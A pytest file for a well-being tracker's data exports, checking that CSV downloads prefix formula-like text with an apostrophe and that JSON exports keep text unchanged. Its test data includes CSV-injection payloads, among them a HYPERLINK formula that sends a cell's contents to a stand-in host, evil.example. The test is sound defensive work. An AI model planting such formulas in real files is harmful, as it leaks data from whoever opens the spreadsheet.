"""Every CSV Steady writes is safe to open in a spreadsheet: text that a spreadsheet would run as
a formula (starting with =, +, -, @, tab or carriage return) gets a leading apostrophe, as OWASP
advises; numbers stay numbers; the JSON exports keep the text exactly as it was written."""

import csv
import datetime as dt
import io
import json
import uuid

import pytest

from tracker import services
from tracker.web.downloads import download

# What a participant might type, and what a spreadsheet must see instead.
PLANTED = {
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")': '\'=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+1 good day": "'+1 good day",
    "-2 hours of sleep": "'-2 hours of sleep",
    "@SUM(1+1)": "'@SUM(1+1)",
    "\tTabbed": "'\tTabbed",
    "\rCarriage": "'\rCarriage",
}


@pytest.fixture
def planted(alice, now):
    """Alice writes each planted text into a field the care team sees: a check-in's small win, an
    urge's shared note, goal titles and a task title."""
    texts = list(PLANTED)
    services.checkin_put(participant=alice, id=uuid.uuid4(), data={
        "date": dt.date(2026, 11, 18), "stress": 3, "small_win": texts[0], "note": texts[1]})
    services.urge_put(participant=alice, id=uuid.uuid4(), data={
        "occurred_at": dt.datetime(2026, 11, 18, 14, tzinfo=dt.UTC), "intensity": 6, "duration_min": 10, "note": texts[2]})
    goal = services.goal_put(participant=alice, id=uuid.uuid4(), actor=alice.user, data={"title": texts[3], "why": texts[4]}).entry
    services.task_put(participant=alice, id=uuid.uuid4(), actor=alice.user, data={"title": texts[5], "goal": goal})
    return alice


def values(response):
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
    return [row[3] for row in rows], rows


def assert_neutralised(cells):
    for typed, safe in PLANTED.items():
        assert safe in cells, typed
        assert typed not in cells, typed
    # No value cell starts a formula.
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_the_counselors_csv_shows_formulas_as_text(planted, carol_client):
    response = carol_client.get(f"/care/participants/{planted.pk}/export.csv")
    assert response.status_code == 200
    cells, rows = values(response)
    assert_neutralised(cells)
    # Numbers are written as numbers: the urge's intensity is 6, not '6.
    assert [kind for kind, _, field, value in rows if field == "intensity" and value == "6"] == ["urge"]


def test_a_participants_own_csv_shows_formulas_as_text(planted, alice_client):
    response = alice_client.get("/settings/my-data.csv")
    assert response.status_code == 200
    cells, _ = values(response)
    assert_neutralised(cells)


def test_the_json_exports_keep_the_text_exactly(planted, carol_client, alice_client):
    care = carol_client.get(f"/care/participants/{planted.pk}/export.json").content.decode()
    own = alice_client.get("/settings/my-data.json").content.decode()
    for json_text in (care, own):
        data = json.loads(json_text)
        written = {data["records"]["checkin"][0]["small_win"], data["records"]["checkin"][0]["note"],
                   data["records"]["urge"][0]["note"], data["records"]["goal"][0]["title"],
                   data["records"]["goal"][0]["why"], data["records"]["task"][0]["title"]}
        assert written == set(PLANTED)


def test_a_negative_number_stays_a_number_and_negative_text_does_not():
    # -3 and -2.5 are numbers: a spreadsheet must still add them up. "-3" typed as text is not.
    response = download(fmt="csv", name="n", rows=[[-3, -2.5, 0, None, "-3", "plain"]])
    assert b"".join(response.streaming_content).decode() == "-3,-2.5,0,,'-3,plain\r\n"
